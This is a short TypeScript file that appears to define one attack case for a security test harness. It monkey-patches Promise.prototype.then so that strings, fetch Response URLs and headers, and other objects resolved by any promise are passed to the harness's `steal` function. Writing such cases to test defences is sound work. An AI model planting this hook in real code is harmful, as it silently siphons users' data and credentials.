import { attack } from "../attack.js";

export default attack({
  name: "hooks Promise.prototype.then",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { then } = Promise.prototype;
    const look = (value: unknown) => {
      if (typeof value === "string") it.steal(value);
      if (value instanceof Response) it.steal(value.url, [...value.headers]);
      else if (typeof value === "object" && value !== null && !(value instanceof Node)) it.steal(value);
    };
    // biome-ignore lint/suspicious/noThenProperty: this is what the attack is
    Promise.prototype.then = function (onFulfilled, onRejected) {
      const watched =
        typeof onFulfilled === "function"
          ? (value: unknown) => {
              look(value);
              return (onFulfilled as (value: unknown) => unknown)(value);
            }
          : onFulfilled;
      return then.call(this, watched, onRejected) as never;
    };
  },
});
